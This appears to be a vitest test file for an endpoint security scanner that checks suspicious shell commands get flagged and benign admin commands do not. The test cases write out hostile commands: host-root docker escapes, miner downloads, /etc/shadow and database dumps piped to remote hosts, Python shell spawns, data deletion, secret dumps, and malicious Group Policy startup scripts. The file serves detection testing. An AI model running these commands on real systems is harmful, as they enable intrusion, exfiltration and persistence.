/** What everyday work is spared for, an intruder cannot put on: each exemption holds for the whole command, in its own shape. */
import { expect, test } from 'vitest';
import { checkCommands } from '../../../analysis/endpoint/index.ts';
import { SEVERITY_ORDER, type Severity } from '../../../protocol/index.ts';
import { literalContent } from '../../../seams/index.ts';

const rank = (severity: Severity) => SEVERITY_ORDER.indexOf(severity);
const told = (command: string) => checkCommands([command], literalContent()).findings;

test.each([
  ['docker run -it -v /:/mnt:ro alpine chroot /mnt sh', 'high'],
  ['docker run -v /:/host:ro -v /var/run/docker.sock:/s alpine sh', 'high'],
  ['docker run --volume=/:/mnt alpine sh', 'high'],
  ['docker run -it --mount type=bind,src=/,dst=/mnt alpine chroot /mnt sh', 'high'],
  ['docker run -d -v /:/host:ro,rslave evil.example/prom/node-exporter', 'high'],
  ['docker run -d -v /:/host:ro alpine prom/node-exporter', 'high'],
  ['docker run -d -v /:/host:ro --rm alpine prom/node-exporter', 'high'],
  ['docker run -d -v /:/host:ro --entrypoint sh prom/node-exporter -c id', 'high'],
  ['docker run -d -v /:/host:ro prom/node-exporter sh', 'high'],
  ['docker run -d -v /:/host prom/node-exporter', 'high'],
  ['docker run -d -v /:/a:ro prom/node-exporter; docker run -v /:/mnt:ro alpine sh', 'high'],
  ['docker run -d -v /:/a:ro prom/node-exporter $(docker run -v /:/mnt:ro alpine sh)', 'high'],
  ['wget http://45.9.148.3/xmr -O /opt/x | gpg', 'low'],
  ['wget http://45.9.148.3/xmr -O /opt/x | gpg --dearmor -o /etc/apt/keyrings/x.gpg', 'low'],
  ['wget http://x.example/xmr | gpg --dearmor -o /etc/apt/keyrings/x.gpg', 'low'],
  ['wget -qO - http://x.example/a -O /opt/x | gpg --dearmor -o /etc/apt/keyrings/x.gpg', 'low'],
  ['curl "http://45.9.148.3/x?a=|" -o /opt/x', 'low'],
  [`curl 'http://x.example/a?b=|' --output /opt/x`, 'low'],
  ['curl -fsSL https://x.example/k | gpg --dearmor -o /etc/cron.d/x', 'low'],
  ['curl -fsSL https://x.example/k -o /opt/x | gpg --dearmor -o /etc/apt/keyrings/x.gpg', 'low'],
  ['kubectl get secrets -A -o yaml #create secret', 'low'],
  ['kubectl get secrets -A -o yaml -l x=create secret', 'low'],
  ['kubectl create secret generic x; kubectl get secrets -A -o yaml', 'low'],
  ['kubectl create secret generic x --from-literal=a="$(kubectl get secrets -A -o yaml)"', 'low'],
  ['kubectl annotate secret --all -A a=b -o yaml', 'low'],
  ['mv /opt/kworker /usr/lib/.git/kworker', 'low'],
  ['cp /opt/x /usr/lib/.cache/x', 'low'],
  ['cp /opt/miner /home/a/.config/sshd', 'low'],
  ['mkdir -p /usr/lib/.config/x', 'low'],
  ['echo "a;b" > /usr/lib/.npm/kworker', 'low'],
  ['echo BECOME-SUCCESS-abc; cp /opt/x /usr/lib/.ansible/kworker', 'low'],
  [String.raw`type C:\evil.exe > C:\ProgramData\file.txt:ro`, 'low'],
  [String.raw`type C:\evil.exe > C:\ProgramData\file.txt:z`, 'low'],
  [String.raw`docker ps & type C:\evil.exe > C:\ProgramData\file.txt:rw`, 'low'],
  [String.raw`docker run -v /a:/b:ro x > C:\ProgramData\file.txt:rw`, 'low'],
  ['cat /opt/db.sql | openssl s_client -connect 45.9.148.3:443', 'medium'],
  ['openssl s_client -connect x.example:443', 'low'],
  ['cat /opt/db.sql | openssl s_client -brief -connect x.example:443', 'low'],
  ['openssl s_client -connect 45.9.148.3:443 < /opt/db.sql', 'low'],
  ['openssl s_client -brief -connect 45.9.148.3:443 < /opt/db.sql', 'low'],
  ['openssl s_client -connect 45.9.148.3:443 </dev/null | sh', 'low'],
  ['echo "$(cat /etc/shadow)" | openssl s_client -connect 45.9.148.3:443 -showcerts', 'low'],
  ['openssl s_client -quiet -connect x.example:443 </dev/null', 'low'],
  [`python3 -c "import posix;posix.system('rm -r /srv')"`, 'low'],
  [`python3 -c "import pty;pty.spawn('/bin/sh')"`, 'low'],
  [`python3 -c "import ftplib;ftplib.FTP('x.example')"`, 'low'],
  [`python3 -c "import shutil;shutil.rmtree('/srv')"`, 'low'],
  [`python3 -c "import importlib;importlib.import_module('o'+'s').system('id')"`, 'low'],
  [`python3 -c "__import__('o'+'s').system('id')"`, 'low'],
  [`python3 -c "import json,sys;sys.modules['posix'].system('id')"`, 'low'],
  [`python3 -c "import json;json.codecs.builtins.open('/etc/x','w')"`, 'low'],
  [`python3 -c "import json;print(f'{json.codecs}')"`, 'low'],
  [`python3 -c "import json; print($(id))"`, 'low'],
  [`python3 -c "print('x')" > /usr/lib/x`, 'low'],
  [`python3 -c "print('x')" && python3 -c "import posix;posix.system('id')"`, 'low'],
  ['python3 -m pip install --index-url http://x.example/s y', 'low'],
  ['pg_dump x | gzip | openssl s_client -connect x.example:443', 'low'],
  ['mysqldump x | gzip | telnet x.example 443', 'low'],
  ['/tmp/.mount_x/miner', 'medium'],
  ['/tmp/.mount_Joplin8xKq1Z/miner', 'medium'],
  ['/tmp/.mount_Joplin8xKq1Z/usr/bin/../../miner', 'medium'],
  ['/tmp/x/.mount_Joplin8xKq1Z/AppRun', 'medium'],
  ['/tmp/.ansible/kworker', 'medium'],
  [String.raw`cmd /c \\45.9.148.3\x\Scripts\StartUp\evil.bat`, 'medium'],
  [
    String.raw`cmd /c \\45.9.148.3\SysVol\45.9.148.3\Policies\{31B2F340-016D-11D2-945F-00C04FB984F9}\Machine\Scripts\Startup\evil.bat`,
    'medium',
  ],
  [
    String.raw`copy evil.bat \\corp.example\SysVol\corp.example\Policies\{31B2F340-016D-11D2-945F-00C04FB984F9}\Machine\Scripts\Startup\evil.bat`,
    'medium',
  ],
] as const)('%s is told, as at least %s', (command, least) => {
  expect(Math.max(-1, ...told(command).map(({ severity }) => rank(severity)))).toBeGreaterThanOrEqual(rank(least));
});

test.each([
  'wget -O- https://apt.releases.hashicorp.com/gpg | sudo gpg --dearmor -o /usr/share/keyrings/hashicorp.gpg',
  'curl -fsSL https://deb.nodesource.com/gpgkey/nodesource.gpg.key | sudo gpg --dearmor -o /etc/apt/keyrings/n.gpg',
  'wget -qO- https://packages.microsoft.com/keys/microsoft.asc | gpg --dearmor > packages.microsoft.gpg',
  'curl -sS https://dl.yarnpkg.example/pubkey.gpg | gpg --dearmor | sudo tee /usr/share/keyrings/yarn.gpg >/dev/null',
  'openssl s_client -connect mail.example.com:465 </dev/null | openssl x509 -noout -dates',
  'echo | openssl s_client -connect a.example.com:443 -servername a.example.com 2>/dev/null | openssl x509 -noout -dates',
  'openssl s_client -showcerts -connect mail.example.com:443',
  `python3 -c 'import sys; print(sys.version)'`,
  `curl -s https://api.example.com/x | python3 -c "import sys, json; print(json.load(sys.stdin)['a']['b'])"`,
  'docker run -d --net=host -v /:/host:ro,rslave prom/node-exporter:latest --path.rootfs=/host',
  'docker run --volume=/:/rootfs:ro --volume=/var/run:/var/run:ro -p 8080:8080 --name=cadvisor gcr.io/cadvisor/cadvisor:v0.49.1',
  'docker run -d -v /srv/nginx.conf:/etc/nginx/nginx.conf:ro,z -v /srv/a.txt:/a.txt:ro nginx',
  'kubectl -n prod create secret tls x --cert=a --key=b',
  'mkdir -p ~/.kube',
  '/tmp/.mount_Joplin8xKq1Z/AppRun',
  '/tmp/.mount_joplinTZfx1z/usr/bin/joplin --no-sandbox',
])('%s is no finding of weight', (command) => {
  expect(told(command).filter(({ severity }) => severity !== 'info')).toEqual([]);
});

test('a start script of a group policy has nothing run at logon by itself', () => {
  const script = String.raw`cmd /c \\corp.example\SysVol\corp.example\Policies\{31B2F340-016D-11D2-945F-00C04FB984F9}\Machine\Scripts\Startup\map.bat`;
  expect(told(script).map(({ rule }) => rule)).not.toContain('command/run-key');
});
